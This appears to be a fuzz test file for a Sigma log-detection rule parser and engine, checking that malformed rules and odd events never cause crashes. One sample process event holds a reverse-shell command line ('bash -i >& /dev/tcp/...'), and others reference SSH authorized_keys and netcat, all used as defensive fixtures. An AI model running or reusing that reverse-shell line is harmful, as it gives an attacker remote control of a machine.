import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { BUILTIN_RULES, compileRules, DetectionEngine } from "../../src/sigma";

/**
 * Rule files come from users and feeds: whatever the text, compiling must
 * return rules or errors naming the source, never throw, and a rule that
 * compiled must never throw on an event.
 */
const TOKENS = ["selection", "filter", "1 of", "all of", "them", "sel*", "and", "or", "not", "(", ")", "|", "x", "1", "of"];

function noThrowCompile(text: string) {
  let out: ReturnType<typeof compileRules> | undefined;
  expect(() => (out = compileRules([{ name: "fuzz.yml", text }]))).not.toThrow();
  for (const e of out!.errors) expect(e.source).toBe("fuzz.yml");
  return out!;
}

describe("Sigma parser fuzzing", () => {
  it("arbitrary text never throws", () => {
    fc.assert(
      fc.property(fc.string({ maxLength: 400 }), (text) => void noThrowCompile(text)),
      { numRuns: 1500 },
    );
  });

  it("mutated built-in rules never throw, and what compiles never throws on events", () => {
    const sources = BUILTIN_RULES.map((r) => r.text);
    const mutation = fc.record({
      src: fc.integer({ min: 0, max: sources.length - 1 }),
      edits: fc.array(fc.record({ at: fc.nat(), del: fc.integer({ min: 0, max: 8 }), ins: fc.string({ maxLength: 6 }) }), { minLength: 1, maxLength: 4 }),
    });
    const events = [
      { logsource: { product: "linux", category: "process_creation" }, fields: { Image: "/tmp/x", CommandLine: "bash -i >& /dev/tcp/1.2.3.4/4444", User: "root", ProcessId: 5 }, timeMs: 1 },
      { logsource: { product: "linux", category: "authentication", service: "sshd" }, fields: { SourceIp: "203.0.113.9", AuthAction: "login_failure", User: "x" }, timeMs: 2 },
      { logsource: {}, fields: { TargetFilename: "/root/.ssh/authorized_keys", Weird: [1, null, { a: 1 }] }, timeMs: 3 },
    ];
    fc.assert(
      fc.property(mutation, ({ src, edits }) => {
        let text = sources[src];
        for (const e of edits) {
          const at = e.at % (text.length + 1);
          text = text.slice(0, at) + e.ins + text.slice(at + e.del);
        }
        const { ruleset } = noThrowCompile(text);
        const engine = new DetectionEngine(ruleset);
        expect(() => {
          for (const ev of events) engine.process(ev);
          engine.flush();
        }).not.toThrow();
      }),
      { numRuns: 800 },
    );
  });

  it("random conditions never throw", () => {
    const condition = fc.array(fc.constantFrom(...TOKENS), { maxLength: 14 }).map((t) => t.join(" "));
    fc.assert(
      fc.property(condition, (cond) => {
        const text = `title: t\nlogsource: {product: linux}\ndetection:\n  selection: {Image|endswith: /nc}\n  filter: {User: root}\n  condition: ${JSON.stringify(cond)}\n`;
        noThrowCompile(text);
      }),
      { numRuns: 1500 },
    );
  });
});
